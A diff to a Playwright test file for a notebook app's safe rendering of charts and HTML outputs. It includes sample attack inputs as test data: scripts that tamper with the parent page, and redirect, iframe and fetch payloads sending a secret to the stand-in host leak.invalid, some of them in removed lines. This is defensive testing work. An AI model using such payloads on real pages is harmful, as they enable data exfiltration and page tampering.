@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 
-import pytest
 from chats import answer, approve, open_and_run, turn_of
 from page_attack import ATTACK
 from playwright.sync_api import expect
@@ -41,7 +40,9 @@ def test_what_python_displays_is_drawn_below_its_result(lab, lab_root, model_ser
     expect(shown.locator("strong")).to_have_text("bold")
     expect(shown.locator("mjx-container")).to_have_count(1)
     expect(shown.locator(".msgbook-Json-key").first).to_have_text("a: ")
-    expect(shown.locator(".vega-embed canvas, .vega-embed svg.marks")).to_have_count(1)
+    chart = shown.get_by_role("img", name="Chart")
+    expect(chart).to_have_count(1)
+    assert chart.evaluate("node => node.naturalHeight") > 80
     screenshot("light")
     with lab.dark():
         screenshot("dark")
@@ -53,55 +54,37 @@ def test_what_python_displays_is_drawn_below_its_result(lab, lab_root, model_ser
     assert lab.requests == []
 
 
-def test_a_chart_that_can_load_something_waits_for_a_click(lab, lab_root, screenshot):
+def test_a_chart_that_would_load_something_is_drawn_without_it(lab, lab_root, screenshot):
     spec = {"data": {"url": "http://leak.invalid/cars.json"}, "mark": "bar"}
     write_turn(lab_root / "chart.ipynb", display({"application/vnd.vegalite.v5+json": spec}))
     lab.open("chart.ipynb")
 
-    offer = lab.cell(0).locator(".msgbook-Display-note")
-    expect(offer).to_contain_text("http://leak.invalid/cars.json")
-    expect(lab.cell(0).locator(".vega-embed")).to_have_count(0)
-    screenshot("offer")
+    cell = lab.cell(0)
+    expect(cell.locator(".msgbook-Display-note")).to_contain_text("not trusted")
+    cell.get_by_role("button", name="Draw it").click()
+    expect(cell.get_by_role("img", name="Chart")).to_have_count(1)
+    expect(cell.locator(".msgbook-Display-note")).to_contain_text("http://leak.invalid/cars.json")
+    screenshot("without")
     assert lab.requests == []
-    offer.get_by_role("button", name="Draw it").click()
-    expect(lab.cell(0).locator(".vega-embed")).to_have_count(1)
 
 
-def test_scripts_of_html_run_only_when_asked_and_reach_nothing(lab, lab_root, screenshot):
+def test_scripts_of_html_never_run_and_the_rest_is_shown_in_a_frame(lab, lab_root, screenshot):
     source = (
-        "<p>before</p><script>try { parent.hacked = 1 } catch (error) { document.body.append('kept out') }"
-        "fetch('http://leak.invalid/x').catch(() => document.body.append(' and offline'))</script>"
+        "<p>before</p><script>parent.hacked = 1; document.body.append('ran')</script>"
+        '<style>p { color: rgb(1, 2, 3) }</style><svg width="40" height="40"><rect width="40" height="40"/></svg>'
     )
     write_turn(lab_root / "scripts.ipynb", display({"text/html": source}))
     lab.open("scripts.ipynb")
 
     cell = lab.cell(0)
     expect(cell.locator(".msgbook-Display-html")).to_have_text("before")
-    cell.get_by_role("button", name="Run it in a sandbox").click()
-    frame = cell.frame_locator("iframe").frame_locator("iframe")
-    expect(frame.locator("body")).to_contain_text("kept out and offline")
-    screenshot("sandbox")
+    cell.get_by_role("button", name="Show it without scripts and frames").click()
+    frame = cell.frame_locator("iframe")
+    expect(frame.locator("p")).to_have_css("color", "rgb(1, 2, 3)")
+    expect(frame.locator("rect")).to_be_visible()
+    expect(frame.locator("body")).not_to_contain_text("ran")
+    screenshot("frame")
     assert lab.page.evaluate("() => window.hacked") is None
-    assert lab.requests == []
-
-
-@pytest.mark.parametrize(
-    "leaving",
-    [
-        "<script>location = 'http://leak.invalid/?secret'</script>",
-        "<meta http-equiv=refresh content='0;url=http://leak.invalid/?secret'>",
-        "<iframe src='http://leak.invalid/?secret'></iframe>",
-        "<a href='http://leak.invalid/?secret'>x</a><script>document.links[0].click()</script>",
-    ],
-)
-def test_html_in_the_sandbox_goes_to_no_other_address(leaving, lab, lab_root):
-    write_turn(lab_root / "leaving.ipynb", display({"text/html": f"<script></script>{leaving}"}))
-    lab.open("leaving.ipynb")
-    lab.console.clear()
-
-    with lab.page.expect_event("console", lambda said: "leak.invalid" in said.text):
-        lab.cell(0).get_by_role("button", name="Run it in a sandbox").click()
-    assert "Content Security Policy" in " ".join(lab.console)
     assert lab.requests == []
 
 
